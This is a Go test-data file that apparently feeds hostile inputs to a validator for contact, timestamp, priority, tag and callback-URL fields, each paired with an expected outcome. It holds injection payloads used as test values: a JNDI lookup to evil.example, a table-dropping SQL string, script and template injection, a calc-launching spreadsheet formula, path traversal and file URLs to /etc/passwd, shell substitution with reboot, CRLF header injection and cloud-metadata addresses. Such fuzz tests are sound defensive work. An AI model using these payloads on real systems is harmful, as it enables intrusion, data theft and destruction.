package main

import "strings"

func hostileStrings() []hostile {
	return []hostile{
		{name: "printf directives", value: with("extra", `"%s%n%x%d%!(EXTRA)"`), end: delivered},
		{name: "${jndi:…}", value: with("extra", `"${jndi:ldap://evil.example/MARK}"`), end: delivered},
		{name: "SQL", value: with("external_id", `"MARK'; DROP TABLE contacts;--"`), end: delivered},
		{name: "HTML and script", value: with("external_id", `"<script>alert('MARK')</script>&amp;"`), end: delivered},
		{name: "templates", value: with("extra", `"{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"`), end: delivered},
		{name: "a formula", value: with("extra", `"=cmd|' /C calc'!A0"`), end: delivered},
		{name: "a path", value: with("extra", `"../../../../etc/passwd\u0000.json"`), end: delivered},
		{name: "shell", value: with("extra", `"$(touch /tmp/MARK) ; reboot #"`), end: delivered},
		{name: "ANSI colours as escapes", value: with("external_id", `"\u001b[31mMARK\u001b]0;owned\u0007"`), end: delivered},
		{name: "a line of a log", value: with("extra", `"\n{\"level\":\"error\",\"message\":\"MARK\"}\r\n"`), end: delivered},
		{name: "text that is slow to match", value: with("external_id", `"MARK`+strings.Repeat("a", 200)+`!"`), end: delivered},
		{name: "text that is slow to match, in a URL", value: with("callback_url", `"`+strings.Repeat("http", 50_000)+`MARK"`), end: invalid("pattern", "/callback_url")},
		{name: "emoji joined by U+200D", value: with("extra", `"👨‍👩‍👧‍👦🏳️‍🌈"`), end: delivered},
		{name: "right-to-left override", value: with("extra", "\"\u202eMARK\u202c\""), end: delivered},
		{name: "a thousand combining marks", value: with("extra", `"Z`+strings.Repeat("\u0301", 1000)+`"`), end: delivered},
		{name: "a URL inside a string", value: with("extra", `"http://169.254.169.254/latest/meta-data/"`), end: delivered},
	}
}

func hostileContact() []hostile {
	return []hostile{
		{name: "missing", value: with("contact", without), end: invalid("required", "/contact")},
		{name: "null", value: with("contact", "null"), end: invalid("type", "/contact")},
		{name: "an array", value: with("contact", `["MARK"]`), end: invalid("type", "/contact")},
		{name: "a string", value: with("contact", `"MARK"`), end: invalid("type", "/contact")},
		{name: "an empty object", value: with("contact", "{}"), end: invalid("required", "/contact/channel")},
		{name: "external_id null", value: with("external_id", "null"), end: invalid("type", "/contact/external_id")},
		{name: "external_id a number", value: with("external_id", "17"), end: invalid("type", "/contact/external_id")},
		{name: "external_id empty", value: with("external_id", `""`), end: invalid("minLength", "/contact/external_id")},
		{name: "external_id one space", value: with("external_id", `" "`), end: delivered},
		{name: "external_id of 255 emoji", value: with("external_id", `"`+strings.Repeat("😀", 255)+`"`), end: delivered},
		{name: "external_id of 256 emoji", value: with("external_id", `"`+strings.Repeat("😀", 256)+`"`), end: invalid("maxLength", "/contact/external_id")},
		{name: "external_id of 255 emoji as escapes", value: with("external_id", `"`+strings.Repeat(`\ud83d\ude00`, 255)+`"`), end: delivered},
		{name: "channel Chat", value: with("channel", `"Chat"`), end: invalid("enum", "/contact/channel")},
		{name: "channel with a line break", value: with("channel", `"chat\n"`), end: invalid("enum", "/contact/channel")},
		{name: "channel an array", value: with("channel", `["chat"]`), end: invalid("type", "/contact/channel")},
		{name: "channel with an escape", value: with("channel", `"\u0063hat"`), end: delivered},
		{name: "metadata null", value: with("metadata", "null"), end: delivered},
		{name: "metadata an array", value: with("metadata", "[]"), end: invalid("type", "/contact/metadata")},
		{name: "metadata a string", value: with("metadata", `"{}"`), end: invalid("type", "/contact/metadata")},
		{name: "metadata 62 levels deep", value: with("metadata", strings.Repeat(`{"a":`, 62)+"1"+strings.Repeat("}", 62)), end: delivered},
		{name: "metadata 63 levels deep", value: with("metadata", strings.Repeat(`{"a":`, 63)+"1"+strings.Repeat("}", 63)), end: invalid("depth", "/contact/metadata"+strings.Repeat("/a", 62))},
		{name: "metadata of 900 KiB", value: sized(900 << 10), end: delivered},
		{name: "metadata with all that a schema may name", value: with("metadata", `{"priority":"x","tags":3,"contact":null,"callback_url":1}`), end: delivered},
	}
}

func hostileTimestamps() []hostile {
	return []hostile{
		stamped("without a zone", "2026-11-23T09:29:00", false),
		stamped("a date alone", "2026-11-23", false),
		stamped("a space for the T", "2026-11-23 09:29:00Z", false),
		stamped("lower-case t and z", "2026-11-23t09:29:00z", true),
		stamped("leap second at the end of a month", "2016-12-31T23:59:60Z", true),
		stamped("leap second in another zone", "2017-01-01T00:59:60+01:00", true),
		stamped("leap second in the middle of a month", "2026-11-23T23:59:60Z", false),
		stamped("month 13", "2026-13-01T00:00:00Z", false),
		stamped("30 February", "2026-02-30T00:00:00Z", false),
		stamped("29 February of no leap year", "2100-02-29T00:00:00Z", false),
		stamped("hour 24", "2026-11-23T24:00:00Z", false),
		stamped("year 0000", "0000-01-01T00:00:00Z", true),
		stamped("year 10000", "10000-01-01T00:00:00Z", false),
		stamped("+24:00", "2026-11-23T09:29:00+24:00", false),
		stamped("+23:59", "2026-11-23T09:29:00+23:59", true),
		stamped("-00:00", "2026-11-23T09:29:00-00:00", true),
		stamped("zone without a colon", "2026-11-23T09:29:00+0100", false),
		stamped("a fraction of 30 digits", "2026-11-23T09:29:00."+strings.Repeat("1", 30)+"Z", true),
		stamped("a fraction of 50 digits", "2026-11-23T09:29:00."+strings.Repeat("1", 50)+"Z", false),
		stamped("a comma for the fraction", "2026-11-23T09:29:00,5Z", false),
		stamped("digits that are not ASCII", "٢٠٢٦-11-23T09:29:00Z", false),
		stamped("a line break behind it", `2026-11-23T09:29:00Z\n`, false),
		stamped("a week date", "2026-W48-1T09:29:00Z", false),
		stamped("as in mail", "Mon, 23 Nov 2026 09:29:00 GMT", false),
		stamped("empty", "", false),
		{name: "seconds since 1970", value: with("timestamp", "1795426140"), end: invalid("type", "/contact/timestamp")},
		{name: "null", value: with("timestamp", "null"), end: invalid("type", "/contact/timestamp")},
	}
}

// stamped is a kind of contact.timestamp.
func stamped(name, timestamp string, valid bool) hostile {
	h := hostile{name: name, value: with("timestamp", `"`+timestamp+`"`), end: delivered}
	if !valid {
		h.end = invalid("format", "/contact/timestamp")
	}
	return h
}

func hostilePriorities() []hostile {
	return []hostile{
		{name: "missing", value: with("priority", ""), end: invalid("required", "/priority")},
		{name: "3.0", value: with("priority", "3.0"), end: invalid("x-literal", "/priority")},
		{name: "3e0", value: with("priority", "3e0"), end: invalid("x-literal", "/priority")},
		{name: "30e-1", value: with("priority", "30e-1"), end: invalid("x-literal", "/priority")},
		{name: "3.0000000000000000001", value: with("priority", "3.0000000000000000001"), end: invalid("type", "/priority")},
		{name: "2.5", value: with("priority", "2.5"), end: invalid("type", "/priority")},
		{name: `"3"`, value: with("priority", `"3"`), end: invalid("type", "/priority")},
		{name: "true", value: with("priority", "true"), end: invalid("type", "/priority")},
		{name: "null", value: with("priority", "null"), end: invalid("type", "/priority")},
		{name: "[3]", value: with("priority", "[3]"), end: invalid("type", "/priority")},
		{name: "0", value: with("priority", "0"), end: invalid("minimum", "/priority")},
		{name: "-0", value: with("priority", "-0"), end: invalid("minimum", "/priority")},
		{name: "-1", value: with("priority", "-1"), end: invalid("minimum", "/priority")},
		{name: "6", value: with("priority", "6"), end: invalid("maximum", "/priority")},
		{name: "2⁶⁴ + 3", value: with("priority", "18446744073709551619"), end: invalid("maximum", "/priority")},
		{name: "1e308", value: with("priority", "1e308"), end: invalid("maximum", "/priority")},
		{name: "1e-308", value: with("priority", "1e-308"), end: invalid("type", "/priority")},
	}
}

func hostileTags() []hostile {
	return []hostile{
		{name: "missing", value: with("tags", ""), end: changed("`\"tags\":[]` added", swapped(with("tags", "", "LAST", "[]"), "LAST", "tags"))},
		{name: "empty", value: with("tags", "[]"), end: delivered},
		{name: "null", value: with("tags", "null"), end: invalid("type", "/tags")},
		{name: "a string", value: with("tags", `"a,b"`), end: invalid("type", "/tags")},
		{name: "an object", value: with("tags", `{"0":"a"}`), end: invalid("type", "/tags")},
		{name: "ten of them", value: with("tags", `["0","1","2","3","4","5","6","7","8","9"]`), end: delivered},
		{name: "eleven of them", value: with("tags", `["0","1","2","3","4","5","6","7","8","9","10"]`), end: invalid("maxItems", "/tags")},
		{name: "eleven, all the same", value: with("tags", `["a","a","a","a","a","a","a","a","a","a","a"]`), end: invalid("maxItems", "/tags")},
		{name: "duplicates", value: with("tags", `["b", "a","b","c" ,"a"]`), end: changed("duplicates removed, order kept", with("tags", `["b", "a","c"]`))},
		{name: "duplicates by an escape", value: with("tags", `["a","\u0061"]`), end: changed("duplicates removed, order kept", with("tags", `["a"]`))},
		{name: "equal but for case or normalisation", value: with("tags", `["é","É","e\u0301"]`), end: delivered},
		{name: "objects among them", value: with("tags", `["a",{"b":1}]`), end: invalid("type", "/tags/1")},
		{name: "mixed types", value: with("tags", `["a",1,null,true,["b"]]`), end: invalid("type", "/tags/1")},
		{name: "empty strings and spaces", value: with("tags", `[""," "]`), end: delivered},
	}
}

func hostileURLs() []hostile {
	return []hostile{
		{name: "missing", value: with("callback_url", ""), end: invalid("required", "/callback_url")},
		{name: "null", value: with("callback_url", "null"), end: invalid("type", "/callback_url")},
		{name: "empty", value: with("callback_url", `""`), end: invalid("pattern", "/callback_url")},
		{name: "javascript:", value: with("callback_url", `"javascript:alert('MARK')//http://"`), end: invalid("pattern", "/callback_url")},
		{name: "ftp:", value: with("callback_url", `"ftp://example.com/MARK"`), end: invalid("pattern", "/callback_url")},
		{name: "file:", value: with("callback_url", `"file:///etc/passwd"`), end: invalid("pattern", "/callback_url")},
		{name: "data:", value: with("callback_url", `"data:text/html,MARK"`), end: invalid("pattern", "/callback_url")},
		{name: "HTTP:// in capitals", value: with("callback_url", `"HTTP://example.com/MARK"`), end: invalid("pattern", "/callback_url")},
		{name: "//host", value: with("callback_url", `"//example.com/MARK"`), end: invalid("pattern", "/callback_url")},
		{name: "a space in front", value: with("callback_url", `" https://example.com"`), end: invalid("pattern", "/callback_url")},
		{name: "a line of its own, after another", value: with("callback_url", `"javascript:x\nhttps://example.com"`), end: invalid("pattern", "/callback_url")},
		{name: "http:// alone", value: with("callback_url", `"http://"`), end: delivered},
		{name: "escaped slashes", value: with("callback_url", `"https:\/\/example.com\/MARK"`), end: delivered},
		{name: "a line break inside", value: with("callback_url", `"https://example.com/\nMARK"`), end: delivered},
		{name: "CRLF and a header", value: with("callback_url", `"https://example.com/\r\nX-Injected: MARK\r\n\r\n"`), end: delivered},
		{name: "user name and password", value: with("callback_url", `"https://user:MARK@example.com/"`), end: delivered},
		{name: "a host that is not ASCII", value: with("callback_url", `"https://exämple.com/😀?MARK"`), end: delivered},
		{name: "the link-local address of clouds", value: with("callback_url", `"http://169.254.169.254/latest/MARK"`), end: delivered},
		{name: "900 KiB long", value: with("callback_url", `"https://example.com/MARK`+strings.Repeat("a", 900<<10)+`"`), end: delivered},
	}
}
